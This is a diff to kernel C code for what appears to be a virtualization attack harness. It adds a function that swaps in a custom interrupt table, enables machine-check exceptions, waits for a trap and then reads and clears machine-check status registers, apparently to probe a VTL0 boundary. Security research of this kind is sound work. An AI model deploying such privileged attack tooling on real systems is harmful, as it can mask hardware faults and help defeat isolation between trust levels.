@@ -18,6 +18,7 @@ u32 raw_push(void *stack, const struct desc_ptr *idt);
 u32 raw_exception(void *stack, const struct desc_ptr *idt);
 u32 raw_software_interrupt(void *unused, const struct desc_ptr *idt);
 u32 raw_interrupt(u64 deadline, const struct desc_ptr *idt);
+u32 raw_await(u64 deadline, const struct desc_ptr *idt, u64 mark);
 u32 raw_segment(const struct desc_ptr *gdt, const struct desc_ptr *idt, u32 selector);
 void raw_handler(u64 handler);
 extern const char raw_traps[];
@@ -228,6 +229,34 @@ long attack_machinery(struct attacker *attacker, struct attack_machinery *reques
     if (request->prepare)
         prepare(attacker, request->gpa, request->part);
     request->trap = experiment(attacker, request->gpa, request->part);
+    local_irq_restore(flags);
+    mutex_unlock(&attacker->lock);
+    mutex_unlock(&machinery_lock);
+    return 0;
+}
+
+#define MCG_STATUS        0x17au
+#define MC1_STATUS        0x405u
+#define MACHINE_CHECK_TRY 10000ull /* ms */
+
+/* The banks are VTL0's: it says that it has seen what they hold. */
+long attack_machine_check(struct attacker *attacker, struct attack_machine_check *request)
+{
+    struct desc_ptr idt = {.size = PAGE_SIZE - 1, .address = (unsigned long)attacker->bounce};
+    unsigned long flags = 0, cr4 = 0;
+
+    mutex_lock(&machinery_lock);
+    mutex_lock(&attacker->lock);
+    machinery_gates(attacker->bounce, 256);
+    local_irq_save(flags);
+    asm volatile("mov %%cr4, %0" : "=r"(cr4));
+    asm volatile("mov %0, %%cr4" : : "r"(cr4 | X86_CR4_MCE));
+    request->trap =
+        raw_await(rdtsc() + MACHINE_CHECK_TRY * tsc_khz, &idt, ATTACK_MACHINE_CHECK_MARK);
+    rdmsrl(MC1_STATUS, request->status);
+    wrmsrl(MC1_STATUS, 0);
+    wrmsrl(MCG_STATUS, 0);
+    asm volatile("mov %0, %%cr4" : : "r"(cr4));
     local_irq_restore(flags);
     mutex_unlock(&attacker->lock);
     mutex_unlock(&machinery_lock);
